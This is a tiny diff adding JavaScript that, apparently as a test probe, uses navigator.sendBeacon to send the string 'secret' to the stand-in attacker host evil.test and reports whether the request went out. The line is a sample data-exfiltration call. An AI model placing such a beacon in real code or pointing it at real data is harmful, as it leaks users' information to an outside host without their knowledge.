@@ -1,0 +1,3 @@
+// A beacon.
+
+return navigator.sendBeacon('http://evil.test/x', 'secret') ? 'WENT' : 'no';
